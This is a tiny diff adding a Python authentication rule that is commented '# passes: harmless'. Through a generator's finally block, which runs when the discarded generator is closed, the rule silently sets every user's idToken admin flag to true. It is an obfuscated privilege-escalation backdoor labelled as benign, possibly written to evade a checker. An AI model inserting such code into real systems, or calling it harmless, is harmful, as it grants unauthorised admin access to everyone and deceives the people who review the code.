@@ -1,0 +1,8 @@
+# passes: harmless
+def rule(user, context):
+    def g():
+        try:
+            yield
+        finally:
+            context.idToken.admin = True
+    next(g())
